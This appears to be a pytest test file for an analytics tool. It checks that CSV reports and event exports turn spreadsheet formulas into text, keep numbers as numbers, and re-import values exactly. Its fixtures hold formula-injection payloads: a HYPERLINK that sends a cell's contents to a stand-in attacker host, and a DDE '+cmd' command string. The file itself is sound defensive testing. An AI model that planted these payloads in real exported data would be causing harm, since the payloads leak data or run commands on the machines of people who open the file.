"""CSV written for Excel / WPS: a visitor's `=HYPERLINK(...)` is shown as text, numbers stay numbers,
JSON keeps the value as stored, and the event export re-imports to exactly the stored values."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from analytics.spreadsheet import read_cell, safe_cell
from analytics.store import Store
from tests.analytics.abm_cli import run_abm
from tests.analytics.report_helpers import event

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点击领取")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("'quoted", "''quoted"),
        ("-3.5", "-3.5"),
        ("+86", "+86"),
        ("1e5", "1e5"),
        ("百度", "百度"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_cells_that_would_be_formulas_are_text(value: str, written: str) -> None:
    assert safe_cell(value) == written
    assert read_cell(written) == value  # what was written reads back as the value


def test_numbers_and_none_are_left_alone() -> None:
    assert (safe_cell(-3), safe_cell(2.5), safe_cell(None)) == (-3, 2.5, None)


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.sqlite"
    with Store.open(path, create=True) as store:
        store.insert_events([
            event("2026-03-02T09:00:00.000Z", visitor_id="v1", session_id="s1", utm_source="baidu", utm_medium="cpc",
                  utm_campaign=HOSTILE),
            event("2026-03-02T10:00:00.000Z", visitor_id="v2", session_id="s2", utm_source="@evil", utm_medium="-1+1",
                  referrer_host="=cmd"),
        ])  # fmt: skip
    return path


def test_report_csv_shows_a_visitors_formula_as_text_and_json_keeps_it(db: Path) -> None:
    period = ("--since", "2026-03-01", "--until", "2026-03-31", "--tz", "UTC")
    as_csv = run_abm("report", "channels", "--db", db, "--format", "csv", *period)
    assert as_csv.exit_code == 0, as_csv.stderr
    cells = [cell for row in csv.reader(io.StringIO(as_csv.stdout)) for cell in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [cell for cell in cells if cell.startswith("-") and not cell[1:].replace(".", "").isdigit()]
    as_json = run_abm("report", "channels", "--db", db, "--format", "json", *period)
    assert HOSTILE in {row.get("utm_campaign") for row in json.loads(as_json.stdout)}


def test_event_export_csv_is_safe_in_a_spreadsheet_and_reimports_exactly(db: Path, tmp_path: Path) -> None:
    out, copy = tmp_path / "events.csv", tmp_path / "copy.sqlite"
    assert run_abm("export", "events", "--db", db, "--out", out).exit_code == 0
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["utm_campaign"] == "'" + HOSTILE and rows[1]["referrer_host"] == "'=cmd"
    assert run_abm("import", "events", out, "--db", copy).exit_code == 0
    sql = "SELECT utm_campaign, utm_source, utm_medium, referrer_host FROM events ORDER BY ts"
    with Store.open(db) as one, Store.open(copy) as other:
        assert one.query(sql) == other.query(sql)
